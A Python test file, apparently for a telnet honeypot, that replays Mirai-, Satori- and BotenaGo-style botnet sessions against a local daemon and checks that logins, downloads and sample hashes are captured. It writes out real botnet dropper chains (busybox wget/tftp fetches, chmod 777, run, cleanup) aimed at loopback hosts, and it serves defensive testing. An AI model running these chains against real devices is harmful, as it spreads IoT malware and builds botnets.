"""The Mirai family end to end against the real daemon on 127.0.0.1:
the loader's whole sequence for each persona and each upload method, the
scanner with every credential, a Satori-style and a BotenaGo-style session.
"""
import hashlib
import os
import random
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "lib"))
import fetchsrv  # noqa: E402
import mirai  # noqa: E402
import tanuki_test as tt  # noqa: E402
from tanuki_test import Conn, Daemon, by_id  # noqa: E402


def _loader_session(d, info):
    user, pw, _ = info["creds"][0]
    ld = mirai.Loader(d.port, user, pw)
    ld.step_ps()
    ld.step_mounts()
    ld.step_prepare()
    endian, machine, arch, first, rest = ld.step_arch()
    # the ELF matches the persona's claimed CPU, and "ELF" never came earlier
    assert endian == int(info["elf_data"]), endian
    assert machine == int(info["elf_machine"]), machine
    assert ld.c.buf.find(b"ELF") == ld.c.buf.find(b"\x7fELF") + 1
    return ld


def _check_loader(persona):
    info = tt.persona_info(persona)
    with Daemon(persona=persona) as d:
        ld = _loader_session(d, info)
        method = ld.step_method()
        want = "wget" if "wget" in info["applets"] else (
            "tftp" if "tftp" in info["applets"] else "echo")
        assert method == want, (method, want)

        # echo: the downloader rebuilt byte for byte, then run
        dlr = mirai.fake_dlr(path=("/bins/mirai." + ld.arch).encode())
        ld.upload_echo(dlr)
        out = ld.run("./upnp; ./dvrHelper telnet." + ld.arch)
        assert b"not found" not in out.split(b"IHCCE")[0] or b"IHCCE" in out
        sha = hashlib.sha256(dlr).hexdigest()

        # wget and tftp as the loader sends them, where the persona has them
        urls = []
        if "wget" in info["applets"]:
            url = "http://127.0.0.1:9/bins/mirai." + ld.arch
            mirai.token_cmd(ld.c, "/bin/busybox wget %s -O - > dvrHelper" % url)
            urls.append(url)
        if "tftp" in info["applets"]:
            mirai.token_cmd(ld.c, "/bin/busybox tftp -g -l dvrHelper -r mirai.%s 127.0.0.1"
                            % ld.arch)
            urls.append("tftp://127.0.0.1/mirai." + ld.arch)
        ld.close()

        evs = d.wait_events(lambda e: any(x.get("shasum") == sha for x in e)
                            and len(by_id(e, "tanuki.download.request")) >= len(urls))
        assert sha in d.files(), "echo-built file not stored"
        assert d.files()[sha] == dlr
        caps = [e for e in by_id(evs, "cowrie.session.file_download") if e["shasum"] == sha]
        assert caps[0]["reason"] == "exec", caps
        assert caps[0]["destfile"].endswith("/upnp"), caps
        got = [e["url"] for e in by_id(evs, "tanuki.download.request")]
        for u in urls:
            assert u in got, (u, got)
        cmds = [e["input"] for e in by_id(evs, "cowrie.command.input")]
        assert any(c.startswith("/bin/busybox cat /bin/echo") for c in cmds)


def test_loader_xiongmai():
    _check_loader("xiongmai-dvr")


def test_loader_zyxel():
    _check_loader("zyxel-pk5001z")


def test_loader_huawei():
    _check_loader("huawei-hg532")


def test_elf_pause_quirk():
    """The ELF header and the token's answer never arrive in one read: the
    daemon sends the header, pauses ~100 ms, then the rest."""
    info = tt.persona_info("xiongmai-dvr")
    user, pw, _ = info["creds"][0]
    with Daemon() as d:
        c = Conn(d.port)
        mirai.login(c, user, pw)
        mirai.enter_shell(c)
        c.send("/bin/busybox cat /bin/echo; /bin/busybox ECCHI\r\n")
        c.read_until(b"\x7fELF")
        t0 = time.time()
        head = c.read_for(0.05)
        assert b"applet not found" not in head
        c.read_until(b"ECCHI: applet not found")
        assert time.time() - t0 >= 0.05
        c.close()


def test_scanner_every_credential():
    """One credential per connection, as the scanner does; `ncorrect` means
    failure, the token's `applet not found` means a shell."""
    for persona in tt.PERSONAS:
        info = tt.persona_info(persona)
        with Daemon(persona=persona) as d:
            for user, pw, _ in info["creds"]:
                c = Conn(d.port)
                mirai.login(c, user, pw)
                out = mirai.read_prompt(c)
                assert b"ncorrect" not in out, (persona, user, pw, out)
                mirai.enter_shell(c, prompt_seen=True)
                tok = random.choice(["MIRAI", "DMSNA", "HGYQA", "SATORI"])
                out = mirai.token_cmd(c, "", tok)
                assert out.endswith(tok.encode() + b": applet not found"), out
                c.close()
            c = Conn(d.port)
            mirai.login(c, "root", "definitely-wrong")
            c.read_until(b"ncorrect")
            c.close()
            evs = d.wait_events(lambda e: len(by_id(e, "cowrie.login.success"))
                                == len(info["creds"]) and by_id(e, "cowrie.login.failed"))
            ok = {(e["username"], e["password"]) for e in by_id(evs, "cowrie.login.success")}
            assert ok == {(u, p) for u, p, _ in info["creds"]}, ok


def test_satori_style():
    """Satori: log in, check with its token, then cd/wget/chmod/run in one line."""
    with Daemon(persona="huawei-hg532") as d:
        info = tt.persona_info("huawei-hg532")
        user, pw, _ = info["creds"][0]
        c = Conn(d.port)
        mirai.login(c, user, pw)
        mirai.enter_shell(c)
        mirai.token_cmd(c, "", "SATORI")
        c.send("cd /tmp || cd /var/; wget http://127.0.0.1:9/bins/satori.mips -O s; "
               "chmod 777 s; ./s telnet.satori; /bin/busybox SATORI\r\n")
        c.read_until(b"SATORI: applet not found")
        c.close()
        evs = d.wait_events(lambda e: by_id(e, "cowrie.session.closed")
                            and by_id(e, "tanuki.download.request"))
        urls = [e["url"] for e in by_id(evs, "tanuki.download.request")]
        assert "http://127.0.0.1:9/bins/satori.mips" in urls, urls


def test_botenago_style():
    """BotenaGo: a random 5-6 letter token, then a chain of fallbacks."""
    with Daemon(persona="zyxel-pk5001z") as d:
        info = tt.persona_info("zyxel-pk5001z")
        user, pw, _ = info["creds"][0]
        c = Conn(d.port)
        mirai.login(c, user, pw)
        mirai.read_prompt(c)
        tok = "".join(random.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(6))
        out = mirai.token_cmd(c, "", tok)
        assert out.endswith((tok + ": applet not found").encode()), out
        c.send("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; "
               "wget http://127.0.0.1:9/bins.sh; chmod 777 bins.sh; sh bins.sh; "
               "tftp 127.0.0.1 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; "
               "tftp -r tftp2.sh -g 127.0.0.1; chmod 777 tftp2.sh; sh tftp2.sh; "
               "rm -rf bins.sh tftp1.sh tftp2.sh; /bin/busybox %s\r\n" % tok)
        c.read_until((tok + ": applet not found").encode(), 20)
        c.close()
        evs = d.wait_events(lambda e: by_id(e, "cowrie.session.closed"))
        urls = [e["url"] for e in by_id(evs, "tanuki.download.request")]
        assert "http://127.0.0.1:9/bins.sh" in urls, urls
        assert any("tftp2.sh" in u for u in urls), urls


def _fetch_conf(dns_port):
    # loopback only: `public '0'`, 127.0.0.0/8 allowed, a loopback DNS server
    return ["config fetch 'fetch'", "\toption enabled '1'", "\toption public '0'",
            "\toption dns '127.0.0.1:%d'" % dns_port, "\tlist allow '127.0.0.0/8'"]


def _bot(arch, n):
    body = bytearray(mirai.fake_dlr(path=b"/nothing", size=n, seed=len(arch)))
    body[400:420] = b"\0" * 20  # no GET line: not a downloader
    return bytes(body)


def test_loader_fetches_land_in_the_shell():
    """The loader's wget and tftp lines against loopback servers: BusyBox's
    success output, the file in `ls -l` at its size, run, and the sample's
    SHA-256 in the store (huawei-hg532 has both applets)."""
    persona = "huawei-hg532"
    info = tt.persona_info(persona)
    user, pw, _ = info["creds"][0]
    dns = fetchsrv.Dns({})
    http = fetchsrv.http_server({})
    tftp = fetchsrv.Tftp({})
    try:
        with Daemon(persona=persona, extra=_fetch_conf(dns.port)) as d:
            ld = _loader_session(d, info)
            assert ld.step_method() == "wget"
            bot = _bot(ld.arch, 24000)
            tbot = _bot(ld.arch + "t", 9000)
            http.routes["/bins/mirai." + ld.arch] = ("file", bot)
            tftp.files["mirai." + ld.arch] = tbot
            hp = http.server_address[1]
            out = mirai.token_cmd(ld.c, "/bin/busybox wget http://127.0.0.1:%d/bins/mirai.%s "
                                  "-O - > dvrHelper" % (hp, ld.arch))
            assert b"Connecting to 127.0.0.1:%d (127.0.0.1:%d)\r\n" % (hp, hp) in out, out
            assert (b"\r-                    100% |" + b"*" * 31 + b"|%6d  " % len(bot)) in out, out
            assert b"wget:" not in out, out
            out = mirai.token_cmd(ld.c, "/bin/busybox chmod 777 dvrHelper; ls -l dvrHelper")
            assert b"-rwxrwxrwx" in out and b" %d " % len(bot) in out, out
            out = mirai.token_cmd(ld.c, "/bin/busybox tftp -g -l dvrHelper2 -r mirai.%s "
                                  "127.0.0.1 %d" % (ld.arch, tftp.port))
            assert b"tftp:" not in out, out
            out = mirai.token_cmd(ld.c, "ls -l dvrHelper2")
            assert b" %d " % len(tbot) in out, out
            ld.run("./dvrHelper telnet." + ld.arch)
            ld.close()
            files = d.files()
            for body in (bot, tbot):
                sha = hashlib.sha256(body).hexdigest()
                assert files.get(sha) == body, sha
            want = {hashlib.sha256(b).hexdigest() for b in (bot, tbot)}
            d.wait_events(lambda e: want <= {x.get("shasum") for x in
                                             by_id(e, "cowrie.session.file_download")})
    finally:
        http.shutdown()
        tftp.close()
        dns.close()
